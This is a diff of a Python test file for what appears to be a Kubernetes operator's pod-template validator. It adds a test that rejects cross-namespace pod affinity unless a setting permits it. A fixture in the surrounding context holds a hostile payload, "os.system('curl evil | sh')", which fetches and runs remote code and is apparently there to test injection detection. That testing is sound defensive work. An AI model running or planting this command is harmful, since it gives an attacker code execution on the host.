@@ -183,6 +183,24 @@ def test_a_level_of_the_log_that_nobody_allows() -> None:
     assert bad(variable("VLLM_LOGGING_LEVEL", "WARNING")) == ""
 
 
+@pytest.mark.parametrize("field", ["podAffinity", "podAntiAffinity"])
+@pytest.mark.parametrize("other", [{"namespaces": ["team-b"]}, {"namespaceSelector": {}}])
+def test_an_affinity_to_other_namespaces_that_nobody_allows(field: str, other: Template) -> None:
+    near = {"topologyKey": "kubernetes.io/hostname"}
+    terms = {"preferredDuringSchedulingIgnoredDuringExecution": [{"weight": 1, "podAffinityTerm": {**near, **other}}]}
+
+    def named(_all: Template, spec: Template, _: Template) -> None:
+        spec["affinity"] = {field: terms}
+
+    assert f"in pod.affinity.{field} is not allowed by the operator's setting" in bad(named)
+    assert bad(named, allow_cross_namespace_affinity=True) == ""
+    required = {"requiredDuringSchedulingIgnoredDuringExecution": [near]}
+    assert bad(lambda *parts: parts[1].update(affinity={field: required})) == ""
+    other_template = copy.deepcopy(TEMPLATE)
+    other_template["spec"]["affinity"] = {field: terms}
+    assert bars(other_template, Today(service().spec, Settings(), deployed=digest(other_template))) == "", "it runs"
+
+
 def program(whole: Template, *_: Template) -> None:
     """A template with another program for the server."""
     whole["metadata"]["annotations"][MIDDLEWARE_ANNOTATION] = "import os; os.system('curl evil | sh')"
